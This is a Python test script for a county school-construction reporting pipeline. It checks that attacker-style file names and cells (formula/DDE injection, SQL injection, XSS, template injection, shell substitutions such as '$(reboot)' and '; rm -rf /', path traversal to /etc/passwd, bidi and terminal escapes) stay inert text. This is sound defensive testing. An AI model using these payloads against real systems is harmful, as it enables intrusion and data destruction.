#!/usr/bin/python3
"""File names and cells as an attacker would send them, through a whole night.

Text from a county is text everywhere: never a formula, a tag, a template, SQL, a path or a terminal command. A file that
cannot be taken is rejected with a finding. Nothing is written outside the output folder, nothing is lost, and the
figures of the other counties are what they are without the attacker."""
import glob, hashlib, html.parser, json, os, re, shutil, sqlite3, subprocess, sys, tempfile, unicodedata, zipfile

SOURCE = os.path.abspath(os.path.join(os.path.dirname(__file__), '..', '..'))
BIN = os.environ.get('TB_BIN') or os.path.join(SOURCE, 'build', 'check', 'bin')
FONTS = os.path.abspath(os.environ.get('TB_FONTS') or os.path.join(SOURCE, 'build', 'fonts'))
AS_OF, NOW = '2017-06-30', '2017-07-03T02:30:00'
if not os.path.exists(os.path.join(FONTS, 'FandolFang-Regular.ttf')) or not shutil.which('pdftotext'):
    print('1..0 # SKIP no fonts or no pdftotext')
    sys.exit(77)
try:
    import openpyxl
    import warnings
    warnings.simplefilter('ignore')
except ImportError:
    print('1..0 # SKIP no openpyxl')
    sys.exit(77)

# Each of these is the name of a project that has not started: it reaches the annex of the bulletin, through Markdown the
# paragraph this test adds to the bulletin, and every sheet of the workbook that lists projects.
TEXTS = [
    "=cmd|'/c calc'!A1", '=HYPERLINK("http://x.example/?"&A1,"点我")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=2+2', '=1+1', "'=3+3",
    '=DDE("cmd";"/c";"x")', '＝4+4', '{=1+1}', '%0A=1+1',
    '{{as_of_cn}}', '{{{as_of_cn}}}', '{{#ranked}}甲{{/ranked}}', '<%as_of_cn%>', '<%#ranked%>乙<%/ranked%>', '<%={{ }}=%>', '<%>measure%>',
    '# 标题', '## 标题', '![图](file:///etc/passwd)', '[链](http://x.example)', '<http://x.example>', '|甲|乙|', '|---|---|', '```', '```table',
    '```annex', '~~~', '**粗**', '_斜_', '`码`', '---', '===', '***', '> 引', '- 项', '* 项', '+ 项', '1. 项', '1) 项', '\\', '\\n', '&lt;甲&gt;', '&#60;乙&#62;',
    '    四格', '[甲]: http://x.example', 'query: ranking', 'column: a = b',
    "'; DROP TABLE submission; --", '"; DROP TABLE figure; --', "') UNION SELECT sql FROM sqlite_schema --", ':as_of', '?1', '%s%n%s%n', '%1$n',
    '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<!-- 丙', '-->', ']]>', '<![CDATA[丁]]>', '</si></sst>', '_x0041_', '$(reboot)', '`reboot`',
    '; rm -rf /', '../../../../tmp/escape', '/etc/passwd', 'C:\\Windows\\win.ini', 'http://x.example/a', 'mailto:a@b.example', 'file:///etc/passwd',
    'internal:Sheet1!A1', 'x@y.example', '1E400', '1e308', '-0', 'NaN', 'TRUE', '0x10', '00123', '1/2', '2017-01-01', 'A1', 'R1C1', '戊' * 150,
    'Subject: 己', '零​宽‎度', '王䶮', '①Ⅱ㎡', '甲\n乙', 'é＆“”…—', '%PDF-1.4', 'endstream', ') Tj (庚', '(((', ')))',
]

work = tempfile.mkdtemp(prefix='tongbao-hostile-')
city = os.path.join(work, 'city')
tests = failures = 0


def check(name, good, more=''):
    global tests, failures
    tests += 1
    failures += not good
    print('%sok %d - %s' % ('' if good else 'not ', tests, name))
    if not good and more != '':
        print('# ' + str(more)[:3000].replace('\n', '\n# '))
    sys.stdout.flush()


def run(program, *arguments):
    env = {'PATH': '/usr/bin:/bin', 'HOME': work, 'LC_ALL': 'C'}
    return subprocess.run([os.path.join(BIN, program), '-c', os.path.join(city, 'templates', 'tongbao.ini'), '--set', 'paths:fonts=' + FONTS,
                           '--now', NOW, *arguments], cwd=work, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def errors_of(done):
    return '\n'.join(line for line in (done.stdout + done.stderr).decode('utf-8', 'replace').split('\n') if '错误' in line or 'error' in line)[-2000:]


def night():
    return run('tb-nightly', '--as-of', AS_OF)


def quote(cell):
    return '"' + cell.replace('"', '""') + '"' if re.search(r'[",\r\n]', cell) else cell


HEADER = ['序号', '项目(学校)名称', '建设性质', '规划校舍面积(平方米)', '计划投资(万元)', '新增学位(个)', '开工时间', '计划竣工时间', '形象进度',
          '累计竣工面积(平方米)', '累计完成投资(万元)', '备注']


def sheet(rows, county='夏津县', title='解决城镇中小学大班额项目进展表'):
    lines = [[county + title], ['填报单位：' + county, '', '截至：2017年6月30日'], HEADER] + rows
    return ''.join(','.join(quote(c) for c in line) + '\r\n' for line in lines).encode()


def project(n, name, area='0', note='', planned='1000', stage='未开工'):
    return [str(n), name, '新建', planned, '100', '90', '', '', stage, area, '0', note]


def send(name, content):
    path = os.path.join(os.fsencode(city), b'input', name if isinstance(name, bytes) else os.fsencode(name))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as f:
        f.write(content)
    os.utime(path, (1499000000, 1499000000))
    return path


def query(sql, *more):
    db = sqlite3.connect('file:%s?mode=ro' % os.path.join(city, 'output', 'ledger.db'), uri=True)
    db.text_factory = lambda b: b.decode('utf-8', 'surrogateescape')
    try:
        return db.execute(sql, more).fetchall()
    finally:
        db.close()


def figures():
    return query("SELECT indicator, county, done, rate, gap FROM progress WHERE county NOT IN ('*', '371427') AND as_of = ? ORDER BY 1, 2", AS_OF)


def tree(folder, but=()):
    found = {}
    for root, folders, names in os.walk(os.fsencode(folder)):
        folders[:] = [f for f in folders if os.path.join(root, f) not in but]
        for name in folders + names:
            path = os.path.join(root, name)
            found[path] = hashlib.sha256(open(path, 'rb').read()).hexdigest() if os.path.isfile(path) and not os.path.islink(path) else ''
    return found


def squeeze(text):
    """Without blanks, and brackets as wide as each other: the typesetter makes them wide beside Chinese."""
    return re.sub('[\\s\u200b-\u200f\ufeff]+', '', unicodedata.normalize('NFKC', text))


shutil.copytree(os.path.join(SOURCE, 'templates'), os.path.join(city, 'templates'))
for county in ('陵城区', '夏津县'):
    shutil.copytree(os.path.join(SOURCE, 'input', county), os.path.join(city, 'input', county))
for old in glob.glob(os.path.join(city, 'input', '夏津县', '*大班额*6.30*')):
    os.unlink(old)
template = os.path.join(city, 'templates', 'bulletins', 'monthly')
with open(os.path.join(template, 'queries.sql'), 'a') as f:
    f.write("\n-- name: hostile\nSELECT name, note FROM projects WHERE county = '371427' AND form = 'dabane' ORDER BY line;\n")
body = open(os.path.join(template, 'body.md')).read()
place = body.index('# 下步工作要求')
with open(os.path.join(template, 'body.md'), 'w') as f:
    f.write(body[:place] + '<%#hostile%>\n\n<%name%>\n\n甲<%name%>乙（<%#note%><%note%><%/note%>）\n<%/hostile%>\n\n' + body[place:])

# --- texts that are allowed: they stay texts ------------------------------------------------------------------
send('夏津县/夏津_大班额_2017.6.30.csv', sheet([project(n + 1, text, note=text) for n, text in enumerate(TEXTS)]))
before_world = tree(work, (os.fsencode(os.path.join(city, 'output')),))
done = night()
check('hostile texts: the night ends with 0 or 1', done.returncode in (0, 1), errors_of(done))
check('nothing outside the output folder was written or changed', before_world == tree(work, (os.fsencode(os.path.join(city, 'output')),)))
stored = [r[0] for r in query("SELECT name FROM projects WHERE county = '371427' AND form = 'dabane' ORDER BY line")]
check('the file was accepted and its texts are what was sent', stored == [t.strip() for t in TEXTS],
      [(a, b) for a, b in zip(stored, TEXTS) if a != b.strip()][:5] or query("SELECT file, status FROM submissions WHERE county = '371427'"))
check('the ledger is whole', query('PRAGMA integrity_check') == [('ok',)])
out = os.path.join(city, 'output', AS_OF)

pdf = os.path.join(out, 'monthly.pdf')
text = subprocess.run(['pdftotext', '-raw', pdf, '-'], stdout=subprocess.PIPE).stdout.decode('utf-8', 'replace') if os.path.exists(pdf) else ''
squeezed = squeeze(text.replace('\u2212', '-'))  # a hyphen before a figure is set as a minus
absent = [t for t in TEXTS if squeeze('甲' + t.strip() + '乙') not in squeezed]
check('every text stands in the PDF as it was sent', os.path.exists(pdf) and not absent, absent)
raw = subprocess.run(['qpdf', '--qdf', '--object-streams=disable', pdf, '-'], stdout=subprocess.PIPE).stdout if shutil.which('qpdf') else b''
check('the PDF has no link, action, script or embedded file', not re.search(rb'/(URI|Action|JavaScript|JS|Launch|EmbeddedFile|AA|OpenAction|GoToR)\b', raw))


def strings(path):
    """Every cell of a workbook, as (sheet, type, value); formulas are those that we write ourselves."""
    book = openpyxl.load_workbook(path)
    for s in book.worksheets:
        for row in s.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield s.title, cell, cell.value
    book.close()


xlsx = os.path.join(out, 'summary.xlsx')
cells = list(strings(xlsx))
wanted = {t.strip() for t in TEXTS}
ours = re.compile(r'=(SUBTOTAL|SUM|IF|IFERROR|ROUND|HYPERLINK\("#|_xlfn|COUNTIF|AGGREGATE|TEXT|RANK)')
check('workbook: every text is a string cell', not [c.coordinate for _, c, v in cells if str(v) in wanted and c.data_type != 's'])
there = {str(v) for _, c, v in cells if c.data_type == 's'}
check('workbook: every text is there', not wanted - there, wanted - there)
odd = [(s, c.coordinate, v) for s, c, v in cells if c.data_type == 'f' and (re.search(r'cmd|DDE|x\.example|\d\+\d', str(v)) or not ours.match(str(v)))]
check('workbook: no formula but our own', not odd, odd[:5])
with zipfile.ZipFile(xlsx) as z:
    links = [n for n in z.namelist() if n.endswith('.rels') and b'External' in z.read(n)]
    check('workbook: no external link', not links, links)
    check('workbook: no macro, no embedded object', not [n for n in z.namelist() if re.search('vba|embed|external|activeX', n, re.I)])


class Tags(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.bad, self.text, self.scripts = [], '', 0

    def handle_starttag(self, tag, attributes):
        self.scripts += tag == 'script'  # the page has one of its own
        if (tag == 'script' and (attributes or self.scripts > 1)) or tag in ('img', 'iframe', 'object', 'b') or any(k.startswith('on') or 'javascript:' in (v or '').lower() for k, v in attributes):
            self.bad.append((tag, attributes))
        for key, value in attributes:
            if key in ('href', 'src') and (re.match('[a-z]+:|//|/', value or '') or '..' in value):
                self.bad.append((tag, attributes))

    def handle_data(self, data):
        self.text += data


def page_is_clean(where):
    tags = Tags()
    raw_page = open(os.path.join(city, 'output', 'index.html'), 'rb').read()
    try:
        tags.feed(raw_page.decode('utf-8'))
        check(where + ': the status page is UTF-8 and has no markup of the attacker', not tags.bad, tags.bad[:3])
    except UnicodeDecodeError as e:
        check(where + ': the status page is UTF-8 and has no markup of the attacker', False, e)
    check(where + ': no control character in the status page', not re.search(rb'[\x00-\x08\x0b-\x1f\x7f]', raw_page))
    for path in glob.glob(os.path.join(city, 'output', '*', 'status.json')):
        try:
            json.loads(open(path, 'rb').read().decode('utf-8'))
            check(where + ': status.json is JSON', True)
        except ValueError as e:
            check(where + ': status.json is JSON', False, e)
    return tags


page_is_clean('hostile texts')

# --- file names -------------------------------------------------------------------------------------------------
os.unlink(os.path.join(city, 'input', '夏津县', '夏津_大班额_2017.6.30.csv'))
plain = sheet([project(1, '实验小学')])
broken = sheet([project(1, '实验小学', area='约3000')])
NAMES = [
    '夏津_大班额_2017.6.30（<script>alert(1)</script>'.replace('/', '∕') + '）.csv', '"><img src=x onerror=alert(1)>夏津_大班额_20170630.csv',
    "夏津_大班额_20170630'; DROP TABLE submission; --.csv", '夏津_大班额_20170630\n接收  假的一行.csv', '夏津_大班额_20170630\r\x1b[2J\x1b[31m.csv',
    '夏津_大班额_20170630‮vsc.exe.csv', '夏津_大班额_20170630{{{as_of}}}<%as_of%>.csv', '..夏津_大班额_20170630.csv', '夏津_大班额_20170630 ..csv',
    '夏津_大班额_20170630%s%n%n.csv', '-rf 夏津_大班额_20170630.csv', '--set=夏津_大班额_20170630.csv', '=cmd()夏津_大班额_20170630.csv',
    '夏津_大班额_20170630`reboot`$(reboot).csv', '夏津_大班额_20170630\\..\\..\\etc\\passwd.csv', '夏津_大班额_20170630\x7f\x01.csv',
    '夏津_大班额_20170630' + '长' * 60 + '.csv', b'\xff\xfe\xc4\xcf_20170630.csv', '夏津_大班额_'.encode('gb18030') + b'20170630.csv',
    '夏津_大班额_99999999999999999999.csv', '夏津_大班额_20170230.csv', '夏津_大班额_00000000.csv', '夏津_大班额_2017.6.31.csv', '.csv', '夏津县..csv',
]
for n, name in enumerate(NAMES):
    send((b'\xe5\xa4\x8f\xe6\xb4\xa5\xe5\x8e\xbf/' if n % 2 else b'') + (name if isinstance(name, bytes) else os.fsencode(name)), broken.replace('实验小学'.encode(), '实验{}小学'.format(n).encode()))
send('夏津县/..../夏津_大班额_20170630.csv', plain)
send('夏津县/<b>粗</b>/夏津_大班额_20170630.csv'.replace('</', '<∕'), plain)
os.mkdir(os.path.join(work, 'private'))
secret = os.path.join(work, 'private', '夏津_大班额_20170630.csv')
with open(secret, 'wb') as f:
    f.write(sheet([project(1, '不该看见的小学')]))
os.symlink(secret, os.path.join(city, 'input', '夏津县', '夏津_大班额_20170630（2）.csv'))
os.symlink(os.path.join(work, 'private'), os.path.join(city, 'input', '夏津县', '根'))
os.symlink('..', os.path.join(city, 'input', '夏津县', '圈'))
os.mkfifo(os.path.join(city, 'input', '夏津县', '夏津_大班额_20170630（3）.csv'))
deep = os.path.join(city, 'input', '夏津县', *['层'] * 40)
os.makedirs(deep)
here = os.getcwd()
os.chdir(os.path.join(city, 'input', '夏津县'))
for n in range(20):  # longer than any path may be: only step by step
    os.mkdir('长' * 80)
    os.chdir('长' * 80)
os.chdir(here)
before_world = tree(work, (os.fsencode(os.path.join(city, 'output')),))
done = night()
said = done.stdout + done.stderr
check('hostile names: the night ends with 1', done.returncode == 1, errors_of(done))
check('hostile names: nothing outside the output folder was written or changed', before_world == tree(work, (os.fsencode(os.path.join(city, 'output')),)))
direct = run('tb-ingest')
said += direct.stdout + direct.stderr
bad_lines = [line for line in said.split(b'\n') if re.search(rb'[\x00-\x08\x0b-\x1f\x7f]', line) or '‮'.encode() in line]
check('hostile names: no control character or bidi override reaches the terminal', not bad_lines, bad_lines[:5])
try:
    said.decode('utf-8')
    check('hostile names: what is printed is UTF-8', True)
except UnicodeDecodeError as e:
    check('hostile names: what is printed is UTF-8', False, said[max(0, e.start - 60):e.end + 20])
check('hostile names: a name cannot fake a line', b'\n\xe6\x8e\xa5\xe6\x94\xb6  \xe5\x81\x87' not in said)
check('a link in the inbox is not followed', not query("SELECT 1 FROM row_dabane WHERE name = '不该看见的小学'"))
check('folders too deep and paths too long are told and stop nobody', said.count('层次太深'.encode()) >= 2)
check('links and pipes are no submissions, not even rejected ones', not query("SELECT 1 FROM submission WHERE file LIKE '%（2）%' OR file LIKE '%（3）%'"))
rejected = query("SELECT file FROM submissions WHERE status = 'rejected' AND file LIKE '%20170630%'")
check('each of them is in the ledger, rejected with a finding', len(rejected) >= 15 and not query(
    "SELECT file FROM submissions s WHERE status = 'rejected' AND NOT EXISTS(SELECT 1 FROM findings f WHERE f.file = s.file AND f.severity = 'error')"), len(rejected))
names = os.listdir(os.path.join(city, 'output', 'archive'))
check('the archive has digests for names and nothing else', all(re.fullmatch('[0-9a-f]{64}', n) for n in names), names)
check('and every file is what its name says', all(hashlib.sha256(open(os.path.join(city, 'output', 'archive', n), 'rb').read()).hexdigest() == n for n in names))
odd = [n for n in tree(os.path.join(city, 'output')) if re.search(rb'[\x00-\x1f\x7f<>"\xff]|\.\.', n)]
known = {digest for digest, in query('SELECT sha256 FROM submission')}
check('and everything the ledger knows of is there', known and known <= set(names), known - set(names))
check('no name of a file reached the output folder', not odd, odd)
tags = page_is_clean('hostile names')
for book in glob.glob(os.path.join(city, 'output', AS_OF, '**', '*.xlsx'), recursive=True):
    found = [(s, c.coordinate, v) for s, c, v in strings(book) if c.data_type == 'f' and not ours.match(str(v))]
    check('%s: no formula but our own' % os.path.relpath(book, os.path.join(city, 'output')), not found, found[:5])
check('the ledger is whole', query('PRAGMA integrity_check') == [('ok',)])
shutil.rmtree(os.path.join(city, 'input', '夏津县'))
for name in os.listdir(os.fsencode(os.path.join(city, 'input'))):
    if name != '陵城区'.encode():
        os.unlink(os.path.join(os.fsencode(city), b'input', name))

# --- contents that cannot be a table ----------------------------------------------------------------------------
night()
clean = figures()
check('the other counties have figures', len([f for f in clean if f[2] is not None]) > 5, clean[:5])


attacks = []


def attack(name, content, *codes):
    """To be rejected with one of these findings."""
    send('夏津县/夏津_大班额_20170630（更正%d）.csv' % len(attacks), content)
    attacks.append((name, hashlib.sha256(content).hexdigest(), codes))


def judge(content=None, name='all of them'):
    """A night with what was sent: it ends well, the other counties' figures stay."""
    if content is not None:
        send('夏津县/夏津_大班额_20170630.csv', content)
    done = night()
    check(name + ': the night ends with 0 or 1', done.returncode in (0, 1), errors_of(done))
    for attack_name, digest, codes in attacks:
        verdict = query('SELECT status FROM submissions WHERE sha256 = ?', digest)
        found = [c for c, in query("SELECT DISTINCT code FROM finding WHERE severity = 'error' AND submission IN (SELECT id FROM submission WHERE sha256 = ?)", digest)]
        check(attack_name + ': rejected, and why', verdict == [('rejected',)] and any(c in codes for c in found), (verdict, found))
    if content is not None:
        verdict = query('SELECT status FROM submissions WHERE sha256 = ?', hashlib.sha256(content).hexdigest())
        check(name + ': accepted', verdict == [('accepted',)], verdict)
    check(name + ': the others keep their figures', figures() == clean)
    check(name + ': the ledger is whole', query('PRAGMA integrity_check') == [('ok',)])
    shutil.rmtree(os.path.join(city, 'input', '夏津县'))
    del attacks[:]


good = [project(n, '第%d小学' % n) for n in range(1, 6)]
attack('another county inside', sheet(good, county='陵城区'), 'county_conflict')
attack('NUL in a cell', sheet(good).replace('第3小学'.encode(), b'\xe7\xac\xac3\x00\xe5\xb0\x8f'), 'not_text', 'bad_bytes')
attack('only NUL', b'\0' * 100000, 'not_text', 'bad_bytes', 'empty_file')
attack('ESC and BEL in a cell', sheet(good + [project(6, '\x1b[2J\x07小学\x01')]), 'bad_character')
attack('a bidi override in a cell', sheet(good + [project(6, '小\u202e学')]), 'bad_character')
attack('a bidi isolate in a remark', sheet(good + [project(6, '小学', note='\u2066甲\u2069')]), 'bad_character')
attack('a noncharacter', sheet(good + [project(6, '小\ufffe学')]), 'bad_character')
attack('a private character', sheet(good + [project(6, '小\ue000学')]), 'bad_character')
attack('an emoji', sheet(good + [project(6, '小学\U0001F600')]), 'bad_character')
attack('broken UTF-8', sheet(good) + b'\xff\xc0\xaf\xed\xa0\x80', 'bad_bytes')
attack('a name of 100,000 characters', sheet(good + [project(6, '长' * 100000)]), 'too_long', 'long_cell')
attack('a remark of 100,000 characters', sheet(good + [project(6, '第6小学', note='长' * 100000)]), 'too_long', 'long_cell')
for text in ('1e308', '1E400', '1e' + '9' * 400, '9223372036854775807', '92233720368547758.07', '999999999999', '9' * 5000):
    attack(text[:20], sheet(good + [project(6, '第6小学', area=text, planned=text)]), 'out_of_range', 'not_a_number', 'lost_digits')
for text in ('1e-400', 'Infinity', '0x1F', '=1+1', '1_000', '١٢٣', '1,2,3', '--5', '1e', 'e5', '.', '1.2.3'):
    attack(text, sheet(good + [project(6, '第6小学', area=text)]), 'not_a_number', 'too_precise', 'out_of_range')
many = [project(n, '第%d小学' % n, area='99999999999', planned='99999999999') for n in range(1, 151)]
attack('rows that together are too much', sheet(many), 'out_of_range')
attack('an open quote', sheet(good) + b'6,"' + b'x,' * 200000, 'open_quote', 'too_long')
attack('two million empty cells in a row', sheet(good) + b',' * 2000000 + b'\r\n', 'too_long')
attack('a hundred thousand bad rows', sheet(good) + '6,小学,新建,x,x,x,x,x,x,x,x,x\r\n'.encode() * 100000, 'not_a_number')
attack('quotes and nothing else', b'"' * 1000001, 'open_quote', 'no_header', 'too_long')
attack('a header of ten thousand columns', sheet(good).replace('序号,'.encode(), '序号,'.encode() * 10000), 'too_long', 'double_column', 'no_header')
judge()
judge(sheet(good + [project(6, '第6小学', area='-0')]), '-0')
judge(sheet(good) + b',,,,,,,,,,,\r\n' * 1000000, 'a million empty rows')
judge(sheet(good) + b'\n' * 2000000, 'two million line ends')
done = night()
check('and after all this the night is as before', figures() == clean and done.returncode in (0, 1))
check('nothing temporary is left', not [n for n in tree(os.path.join(city, 'output')) if b'/.new' in n or b'.tmp' in n or b'incoming' in n])
print('1..%d' % tests)
if os.environ.get('TAP_KEEP'):
    print('# kept: ' + work)
else:
    shutil.rmtree(work)
sys.exit(1 if failures else 0)
